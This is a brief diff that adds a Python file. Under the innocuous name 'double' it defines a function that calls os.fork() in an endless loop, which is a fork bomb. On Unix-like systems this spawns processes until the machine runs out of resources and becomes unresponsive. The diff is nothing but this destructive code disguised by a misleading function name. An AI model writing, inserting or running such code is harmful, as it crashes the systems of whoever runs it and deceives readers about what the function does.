@@ -1,0 +1,8 @@
+"""Forks without end."""
+
+import os
+
+
+def double(n):
+    while True:
+        os.fork()
